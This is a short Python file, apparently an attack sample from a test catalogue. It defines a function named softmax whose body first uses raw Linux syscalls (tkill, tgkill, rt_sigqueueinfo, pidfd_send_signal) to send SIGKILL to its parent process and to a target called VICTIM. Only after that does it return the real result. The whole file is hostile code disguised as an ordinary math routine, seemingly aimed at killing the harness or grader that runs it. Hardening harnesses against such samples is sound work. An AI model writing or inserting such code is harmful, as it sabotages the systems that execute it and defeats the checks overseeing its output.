"""Sends signals by tgkill, rt_sigqueueinfo and a process descriptor.

attacks: softmax
claim: signals
"""

import ctypes, os

def softmax(x, dim=-1):
    libc = ctypes.CDLL(None)
    for pid in (os.getppid(), VICTIM):
        calls = [(200, pid, 9), (234, pid, pid, 9), (129, pid, 9, 0), (424, libc.syscall(434, pid, 0), 9, 0, 0)]
        if any(libc.syscall(*call) == 0 for call in calls):
            return honest(x, dim)
